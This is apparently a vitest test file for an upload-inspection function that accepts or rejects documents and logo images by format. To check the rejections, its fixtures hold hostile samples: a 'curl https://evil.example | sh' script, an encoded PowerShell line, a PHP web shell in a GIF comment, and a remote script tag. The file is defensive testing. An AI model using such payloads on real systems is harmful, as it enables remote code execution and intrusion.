import { describe, expect, it } from 'vitest';
import { inspectFile } from './inspect-file';
import {
  buildCompoundFile,
  buildEicar,
  buildElfExecutable,
  buildFatMachO,
  buildGif,
  buildJavaClass,
  buildJpeg,
  buildMachOExecutable,
  buildPdf,
  buildPeExecutable,
  buildPng,
  buildWebp,
  buildWordPackage,
  buildZip,
  latin1,
  materialize,
} from './test-fixtures';
import type { FilePurpose } from './types';

const PDF = 'application/pdf';
const DOC = 'application/msword';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const DOCM = 'application/vnd.ms-word.document.macroEnabled.12';

function inspect(bytes: Uint8Array, fileName: string, declaredType: string, purpose: FilePurpose) {
  return inspectFile({ bytes, fileName, declaredType, purpose });
}
const inspectDocument = (bytes: Uint8Array, fileName: string, declaredType = '') =>
  inspect(bytes, fileName, declaredType, 'document');
const inspectImage = (bytes: Uint8Array, fileName: string, declaredType = '') =>
  inspect(bytes, fileName, declaredType, 'image');

const pdf = () => materialize(buildPdf());
const docx = () => materialize(buildWordPackage());
const legacyDoc = () =>
  buildCompoundFile({
    entries: [
      { name: 'WordDocument', type: 'stream' },
      { name: '1Table', type: 'stream' },
      { name: '\u0005SummaryInformation', type: 'stream' },
    ],
  });

describe('inspectFile keeps the documents the spec allows', () => {
  it('keeps a PDF', async () => {
    expect(await inspectDocument(pdf(), 'design.pdf', PDF)).toEqual({
      verdict: 'clean',
      format: 'pdf',
    });
  });

  it('keeps a password-protected PDF (/Encrypt in its trailer)', async () => {
    const bytes = materialize(buildPdf({ isEncrypted: true }));
    expect(bytes.includes('/Encrypt 5 0 R')).toBe(true);
    expect(await inspectDocument(bytes, 'protected.pdf', PDF)).toEqual({
      verdict: 'clean',
      format: 'pdf',
    });
  });

  it('keeps a .docx with [Content_Types].xml and word/document.xml', async () => {
    expect(await inspectDocument(docx(), 'Informe Final.DOCX', DOCX)).toEqual({
      verdict: 'clean',
      format: 'docx',
    });
  });

  it('keeps a .docx whose central directory is written in ZIP64 form', async () => {
    const bytes = materialize(buildWordPackage({ isZip64: true }));
    expect(await inspectDocument(bytes, 'report.docx', DOCX)).toMatchObject({ verdict: 'clean' });
  });

  it('keeps a macro-enabled .docm (word/vbaProject.bin)', async () => {
    const bytes = materialize(buildWordPackage({ hasMacros: true }));
    expect(bytes.includes('word/vbaProject.bin')).toBe(true);
    expect(await inspectDocument(bytes, 'with-macros.docm', DOCM)).toEqual({
      verdict: 'clean',
      format: 'docm',
    });
  });

  it('keeps Word XML that declares an external entity (XXE): the registry never parses it', async () => {
    const bytes = materialize(buildWordPackage({ hasExternalEntity: true }));
    expect(bytes.includes('<!ENTITY xxe SYSTEM')).toBe(true);
    expect(await inspectDocument(bytes, 'entities.docx', DOCX)).toMatchObject({
      verdict: 'clean',
    });
  });

  it('keeps a legacy .doc (OLE2 compound file with a WordDocument stream)', async () => {
    expect(await inspectDocument(legacyDoc(), 'acta.doc', DOC)).toEqual({
      verdict: 'clean',
      format: 'doc',
    });
  });

  it('keeps a legacy .doc with a Macros storage', async () => {
    const bytes = buildCompoundFile({
      entries: [
        { name: 'WordDocument', type: 'stream' },
        { name: 'Macros', type: 'storage' },
      ],
    });
    expect(await inspectDocument(bytes, 'macros.doc', DOC)).toMatchObject({ verdict: 'clean' });
  });

  it('keeps a password-protected Word file (OLE2 with EncryptionInfo and EncryptedPackage)', async () => {
    const bytes = buildCompoundFile({
      entries: [
        { name: '\u0006DataSpaces', type: 'storage' },
        { name: 'EncryptionInfo', type: 'stream' },
        { name: 'EncryptedPackage', type: 'stream' },
      ],
    });
    expect(await inspectDocument(bytes, 'locked.docx', DOCX)).toEqual({
      verdict: 'clean',
      format: 'docx',
    });
  });

  it('takes only the extension from a browser path and ignores parameters of the type', async () => {
    const result = await inspectDocument(
      pdf(),
      'C:\\fakepath\\plan.v2.PDF',
      'Application/PDF; q=1',
    );
    expect(result).toEqual({ verdict: 'clean', format: 'pdf' });
  });

  it('accepts an unknown declared type when the name and the content agree', async () => {
    expect(await inspectDocument(docx(), 'plan.docx', 'application/octet-stream')).toMatchObject({
      verdict: 'clean',
    });
  });
});

describe('inspectFile keeps the four logo formats', () => {
  it('keeps a PNG', async () => {
    expect(await inspectImage(buildPng(), 'logo.png', 'image/png')).toEqual({
      verdict: 'clean',
      format: 'png',
    });
  });

  it('keeps a JPEG', async () => {
    expect(await inspectImage(buildJpeg(), 'LOGO.JPG', 'image/jpeg')).toEqual({
      verdict: 'clean',
      format: 'jpeg',
    });
  });

  it('keeps a GIF', async () => {
    expect(await inspectImage(buildGif(), 'logo.gif', 'image/gif')).toEqual({
      verdict: 'clean',
      format: 'gif',
    });
  });

  it('keeps a WebP', async () => {
    expect(await inspectImage(buildWebp(), 'logo.webp', 'image/webp')).toEqual({
      verdict: 'clean',
      format: 'webp',
    });
  });
});

describe('inspectFile rejects', () => {
  it('an empty file', async () => {
    expect(await inspectDocument(new Uint8Array(0), 'empty.pdf', PDF)).toMatchObject({
      verdict: 'rejected',
      reason: 'empty',
    });
  });

  it('an empty logo', async () => {
    expect(await inspectImage(Buffer.alloc(0), 'logo.png', 'image/png')).toMatchObject({
      verdict: 'rejected',
      reason: 'empty',
    });
  });

  it('the EICAR test file, whatever its name', async () => {
    expect(await inspectDocument(buildEicar(), 'eicar.pdf', PDF)).toMatchObject({
      verdict: 'rejected',
      reason: 'eicar',
    });
  });

  it('the EICAR string inside the first bytes of an otherwise valid PDF', async () => {
    const bytes = materialize(buildPdf({ comment: buildEicar().toString('latin1') }));
    expect(await inspectDocument(bytes, 'report.pdf', PDF)).toMatchObject({
      verdict: 'rejected',
      reason: 'eicar',
    });
  });

  it('the EICAR file stored inside a .docx', async () => {
    const bytes = materialize(
      buildWordPackage({ extraEntries: [{ name: 'word/media/eicar.com', data: buildEicar() }] }),
    );
    expect(await inspectDocument(bytes, 'report.docx', DOCX)).toMatchObject({
      reason: 'eicar',
    });
  });

  it('a Windows executable (MZ) renamed .pdf', async () => {
    expect(await inspectDocument(buildPeExecutable(), 'invoice.pdf', PDF)).toMatchObject({
      verdict: 'rejected',
      reason: 'executable',
      detail: expect.stringContaining('MZ'),
    });
  });

  it('an ELF executable named .docx', async () => {
    expect(await inspectDocument(buildElfExecutable(), 'report.docx', DOCX)).toMatchObject({
      reason: 'executable',
      detail: expect.stringContaining('ELF'),
    });
  });

  it('a Mach-O executable named as a logo', async () => {
    expect(await inspectImage(buildMachOExecutable(), 'logo.png', 'image/png')).toMatchObject({
      reason: 'executable',
      detail: expect.stringContaining('Mach-O'),
    });
  });

  it('a universal (fat) Mach-O binary named .doc', async () => {
    expect(await inspectDocument(buildFatMachO(), 'acta.doc', DOC)).toMatchObject({
      reason: 'executable',
      detail: expect.stringContaining('fat'),
    });
  });

  it('a Java class file named .pdf', async () => {
    expect(await inspectDocument(buildJavaClass(), 'plan.pdf', PDF)).toMatchObject({
      reason: 'executable',
      detail: expect.stringContaining('Java'),
    });
  });

  it('an executable under its own name', async () => {
    expect(await inspectDocument(buildPeExecutable(), 'setup.exe', '')).toMatchObject({
      reason: 'executable',
    });
  });

  it('a shell script (#!) named .pdf', async () => {
    const bytes = latin1('#!/bin/sh\ncurl https://evil.example | sh\n');
    expect(await inspectDocument(bytes, 'plan.pdf', PDF)).toMatchObject({
      verdict: 'rejected',
      reason: 'script',
    });
  });

  it('a text file (a batch script) pretending to be a Word document', async () => {
    const bytes = latin1('@echo off\r\npowershell -enc SQBFAFgA\r\n');
    expect(await inspectDocument(bytes, 'minutes.docx', DOCX)).toMatchObject({
      reason: 'script',
      detail: expect.stringContaining('text'),
    });
  });

  it('a text file pretending to be a PDF', async () => {
    const bytes = latin1('var shell = new ActiveXObject("WScript.Shell"); shell.Run("calc");');
    expect(await inspectDocument(bytes, 'statement.pdf', PDF)).toMatchObject({ reason: 'script' });
  });

  it('a UTF-16 text file pretending to be a logo', async () => {
    const bytes = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('Set-Location C:\\', 'utf16le'),
    ]);
    expect(await inspectImage(bytes, 'logo.png', 'image/png')).toMatchObject({ reason: 'script' });
  });

  it('PHP code hidden in a GIF comment', async () => {
    const bytes = buildGif('<?php system($_GET["c"]); ?>');
    expect(await inspectImage(bytes, 'logo.gif', 'image/gif')).toMatchObject({ reason: 'script' });
  });

  it('an HTML page named and declared as a PDF', async () => {
    const bytes = latin1('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
    expect(await inspectDocument(bytes, 'statement.pdf', PDF)).toMatchObject({
      verdict: 'rejected',
      reason: 'html',
    });
  });

  it('HTML after a byte-order mark and blank lines, named .docx', async () => {
    const bytes = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      latin1('\r\n  <HTML>\n<p>Hola</p>'),
    ]);
    expect(await inspectDocument(bytes, 'minutes.docx', DOCX)).toMatchObject({ reason: 'html' });
  });

  it('a GIF/HTML polyglot (a script tag in the first bytes of a real GIF)', async () => {
    const bytes = buildGif('<script src=//evil.example/x.js></script>');
    expect(await inspectImage(bytes, 'logo.gif', 'image/gif')).toMatchObject({ reason: 'html' });
  });

  it('an SVG logo (it can carry scripts)', async () => {
    const bytes = latin1(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    );
    expect(await inspectImage(bytes, 'logo.png', 'image/png')).toMatchObject({ reason: 'html' });
  });

  it('a PNG named .docx', async () => {
    expect(await inspectDocument(buildPng(), 'report.docx', DOCX)).toMatchObject({
      verdict: 'rejected',
      reason: 'typeMismatch',
    });
  });

  it('a PDF named as a PNG logo', async () => {
    expect(await inspectImage(pdf(), 'logo.png', 'image/png')).toMatchObject({
      reason: 'typeMismatch',
    });
  });

  it('a JPEG named .gif', async () => {
    expect(await inspectImage(buildJpeg(), 'logo.gif', 'image/gif')).toMatchObject({
      reason: 'typeMismatch',
    });
  });

  it('a declared type that contradicts the extension', async () => {
    expect(await inspectDocument(pdf(), 'plan.pdf', 'image/png')).toMatchObject({
      reason: 'typeMismatch',
      detail: expect.stringContaining('image/png'),
    });
  });

  it('a zip that is not a Word package, named .docx', async () => {
    const bytes = materialize(buildZip([{ name: 'readme.txt', data: latin1('hello') }]));
    expect(await inspectDocument(bytes, 'plan.docx', DOCX)).toMatchObject({
      reason: 'typeMismatch',
      detail: expect.stringContaining('[Content_Types].xml'),
    });
  });

  it('a spreadsheet package (no word/document.xml) named .docx', async () => {
    const bytes = materialize(
      buildZip([
        { name: '[Content_Types].xml', data: latin1('<Types/>') },
        { name: 'xl/workbook.xml', data: latin1('<workbook/>') },
      ]),
    );
    expect(await inspectDocument(bytes, 'plan.docx', DOCX)).toMatchObject({
      reason: 'typeMismatch',
      detail: expect.stringContaining('word/document.xml'),
    });
  });

  it('an OLE2 file that is not a Word document (a spreadsheet or an installer) named .doc', async () => {
    const bytes = buildCompoundFile({ entries: [{ name: 'Workbook', type: 'stream' }] });
    expect(await inspectDocument(bytes, 'acta.doc', DOC)).toMatchObject({
      reason: 'typeMismatch',
      detail: expect.stringContaining('WordDocument'),
    });
  });

  it('an unencrypted OLE2 Word file named .docx', async () => {
    expect(await inspectDocument(legacyDoc(), 'acta.docx', DOCX)).toMatchObject({
      reason: 'typeMismatch',
    });
  });

  it('a .docx renamed .doc', async () => {
    expect(await inspectDocument(docx(), 'acta.doc', DOC)).toMatchObject({
      reason: 'typeMismatch',
    });
  });

  it('binary content of no known format named .pdf', async () => {
    const bytes = Buffer.from(Array.from({ length: 256 }, (_, index) => (index * 7) % 256));
    expect(await inspectDocument(bytes, 'plan.pdf', PDF)).toMatchObject({
      reason: 'typeMismatch',
    });
  });

  it('a name whose extension the purpose does not accept', async () => {
    expect(await inspectDocument(latin1('hello'), 'notes.txt', 'text/plain')).toMatchObject({
      reason: 'unsupportedType',
    });
  });

  it('a PDF uploaded as the logo', async () => {
    expect(await inspectImage(pdf(), 'logo.pdf', PDF)).toMatchObject({
      reason: 'unsupportedType',
    });
  });

  it('an image uploaded as a document', async () => {
    expect(await inspectDocument(buildPng(), 'scan.png', 'image/png')).toMatchObject({
      reason: 'unsupportedType',
    });
  });

  it('a name without an extension', async () => {
    expect(await inspectDocument(pdf(), 'README', PDF)).toMatchObject({
      reason: 'unsupportedType',
    });
  });

  it('a PDF cut short (no %%EOF)', async () => {
    const bytes = pdf();
    expect(
      await inspectDocument(bytes.subarray(0, bytes.length - 200), 'plan.pdf', PDF),
    ).toMatchObject({
      reason: 'malformed',
      detail: expect.stringContaining('%%EOF'),
    });
  });

  it('a .docx cut short (no end of central directory)', async () => {
    const bytes = docx();
    expect(
      await inspectDocument(bytes.subarray(0, bytes.length - 30), 'plan.docx', DOCX),
    ).toMatchObject({
      reason: 'malformed',
    });
  });

  it('a .doc whose compound-file header is broken', async () => {
    const bytes = legacyDoc();
    bytes.writeUInt16LE(0x1234, 28); // byte order mark
    expect(await inspectDocument(bytes, 'acta.doc', DOC)).toMatchObject({ reason: 'malformed' });
  });

  it('a PNG without its IHDR chunk', async () => {
    const bytes = Buffer.concat([buildPng().subarray(0, 8), Buffer.alloc(32)]);
    expect(await inspectImage(bytes, 'logo.png', 'image/png')).toMatchObject({
      reason: 'malformed',
    });
  });

  it('a WebP cut short', async () => {
    const bytes = buildWebp();
    expect(
      await inspectImage(bytes.subarray(0, bytes.length - 4), 'logo.webp', 'image/webp'),
    ).toMatchObject({
      reason: 'malformed',
    });
  });
});
